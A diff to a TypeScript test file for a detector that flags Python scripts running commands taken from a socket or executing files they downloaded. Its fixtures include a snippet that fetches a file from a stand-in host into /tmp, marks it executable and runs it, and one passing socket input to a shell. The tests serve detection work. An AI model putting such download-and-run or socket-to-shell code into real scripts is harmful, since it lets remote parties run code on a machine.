@@ -1,4 +1,5 @@
-// What a Python script takes from a socket and runs as a command, however it gets there; and what only looks like it.
+// What a Python script takes from a socket and runs as a command, or fetches and starts, however it gets there; and what only
+// looks like it.
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { readScript } from '../../../src/file/formats/script/read.ts'
@@ -19,6 +20,17 @@ for (const [what, body] of Object.entries({
     'class A:\n  def take(self):\n    self.line = c.recv(99)\n  def go(self):\n    subprocess.Popen(self.line, shell=True)\n',
 }))
   test(`a command from a socket is run: ${what}`, () => assert.ok(obeys(body)))
+
+const starts = (body: string): boolean =>
+  readScript(body, 'python').facts.traits.some(({ id }) => id === 'runs_what_it_fetched')
+
+test('what was fetched into a folder is started from that folder, and another file there is not it', () => {
+  const fetched =
+    'from os import system\nfrom requests import get\nopen("/tmp/node", "wb").write(get("https://a.example/n").content)\n'
+  assert.ok(starts(`${fetched}system("cd /tmp && chmod +x node && ./node")\n`))
+  assert.ok(!starts(`${fetched}system("cd /tmp && ./check")\n`))
+  assert.ok(!starts(`${fetched}system("cd /opt && ./node")\n`))
+})
 
 for (const [what, body] of Object.entries({
   'a name within a command of its own':
